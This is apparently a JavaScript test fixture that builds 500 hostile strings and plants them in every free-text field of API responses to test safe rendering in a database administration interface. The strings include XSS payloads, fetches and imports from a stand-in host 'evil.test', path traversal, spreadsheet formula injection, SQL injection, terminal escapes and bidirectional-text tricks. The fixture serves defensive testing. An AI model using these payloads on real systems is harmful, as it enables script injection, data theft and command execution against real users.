// 500 texts that try to become a script, a style, a link, another direction, or another layout, where data is shown.
// The list is the same at every run: forms times targets times ways to write them, in a fixed order.

const SCRIPTS = ['alert(1)', 'top.hit=1', 'document.title="hit"', 'fetch("//evil.test")', 'import("//evil.test/x.js")'];
const FORMS = [
  (js) => `<script>${js}</script>`, (js) => `</script><script>${js}//`, (js) => `<img src=x onerror=${js}>`, (js) => `<svg onload=${js}>`, (js) => `<svg><script>${js}</script></svg>`,
  (js) => `"><script>${js}</script>`, (js) => `'><img src=x onerror='${js}'>`, (js) => `" autofocus onfocus="${js}`, (js) => `<iframe srcdoc="<script>${js}</script>">`, (js) => `<a href="javascript:${js}">x</a>`,
  (js) => `javascript:${js}`, (js) => `<math><mtext></form><form><mglyph><style></math><img src onerror=${js}>`, (js) => `<details open ontoggle=${js}>`, (js) => `<video><source onerror=${js}>`, (js) => `<body onload=${js}>`,
  (js) => `\${${js}}`, (js) => `{{constructor.constructor('${js}')()}}`, (js) => `<style>@import '//evil.test/${encodeURIComponent(js)}'</style>`, (js) => `<base href="//evil.test/${encodeURIComponent(js)}">`, (js) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
  (js) => `<form action="javascript:${js}"><button>x</button></form>`, (js) => `<object data="data:text/html,<script>${js}</script>">`, (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`, (js) => `<!--><img src=x onerror=${js}>-->`, (js) => `]]><script>${js}</script>`,
  (js) => `<template><script>${js}</script></template>`, (js) => `<link rel=stylesheet href="data:text/css,*{display:none}"><b>${js}`, (js) => `<button popovertarget=x onclick=${js}>x</button>`, (js) => `<marquee onstart=${js}>x</marquee>`, (js) => `<input type=image src=x onerror=${js}>`,
];
const WRITINGS = [(text) => text, (text) => text.toUpperCase(), (text) => [...text].map((c) => `&#${c.codePointAt(0)};`).join('').slice(0, 4000)];
/** Texts that are no markup but disturb: direction, control, width, length, encoding, and what other readers act upon. */
const DISTURBING = [
  '\u202eevil\u202c', '\u2066a\u2069b\u2067c', '\u200f\u200e\u061c', '\x1b[2J\x1b[31mred', '\x1b]8;;http://evil.test\x07link\x1b]8;;\x07', '\x1b]0;title\x07', '\0nul\0', '\x07\x08\x0b\x0c\x7f', '\r\nSet-Cookie: a=b', '\u2028line\u2029paragraph',
  '\ufeffbom', '\ud800', 'a\udc00b', '\ufffd\ufffe\uffff', 'Z\u0351\u036b\u0343\u036a\u0302'.repeat(40), '\u0e49'.repeat(300), '\u{1F469}\u200d\u{1F469}\u200d\u{1F467}\u200d\u{1F466}'.repeat(60), '\ufdfa'.repeat(120), '\u3164\u2800\u00a0\u200b', 'x'.repeat(20_000),
  'no break '.repeat(2000).replaceAll(' ', '\u00a0'), '\n'.repeat(600), '\t'.repeat(600), '../../../../etc/passwd', '%2e%2e%2f%00', '=cmd|"/C calc"!A1', '@SUM(1+1)', 'https://evil.test/'.padEnd(3000, 'a'), '__proto__', 'constructor',
  'toString', 'null', 'undefined', 'NaN', '', ' ', '-', "'; DROP TABLE sessions; --", '${7*7}', '%s%n%x', '\\u003cscript\\u003e', '#q=1&m=2', '?next=//evil.test', 'data:text/html,<script>alert(1)</script>', '\u{e0001}\u{e0041}', '\u1680\u2000\u205f\u3000', 'İıſß', '١٢٣', 'ﷺ', '\u0000\ud83d',
];

const markup = WRITINGS.flatMap((write) => SCRIPTS.flatMap((js) => FORMS.map((form) => write(form(js)))));
export const PAYLOADS = [...markup, ...DISTURBING].slice(0, 500);

/** The fields in which people, databases and clients decide what stands. */
const FREE = new Set(['name', 'email', 'target', 'database', 'databaseRole', 'application', 'clientAddress', 'endReason', 'endText', 'verdict', 'sql', 'tag', 'message', 'detail', 'hint', 'severity', 'sqlState', 'typeName', 'text', 'reason', 'decisionReason',
  'revocationReason', 'ticket', 'subject', 'legalBasis', 'person', 'fileSystem', 'warning', 'recovery', 'value', 'why', 'address', 'code', 'verb', 'durability', 'host', 'defaultDatabase', 'defaultRole', 'truncated', 'what', 'shortId', 'issuer', 'about', 'login']);
const STRINGS = new Set(['databases', 'groups', 'roles', 'reviewers', 'targets']);

/** An answer with a payload in every such field; the elements of a list have one each, counted from `n`. */
export function hostile(answer, n, key = '') {
  const payload = PAYLOADS[n % PAYLOADS.length];
  if (typeof answer === 'string') return FREE.has(key) || STRINGS.has(key) || key === 'cell' ? payload : answer;
  if (Array.isArray(answer)) return answer.map((each, index) => hostile(each, STRINGS.has(key) || key === 'parameters' ? n : n + index, key === 'rows' || key === 'cell' ? 'cell' : STRINGS.has(key) ? key : ''));
  if (answer === null || typeof answer !== 'object') return answer;
  if (key === 'labels') return { [payload]: payload };
  return Object.fromEntries(Object.entries(answer).map(([name, value]) => [name, hostile(value, n, name)]));
}

/** A list as long as there are payloads, made of the elements of a shorter one, each with an identity of its own. */
export const asMany = (items, identify) => Array.from({ length: PAYLOADS.length }, (_, index) => identify(structuredClone(items[index % items.length]), index));
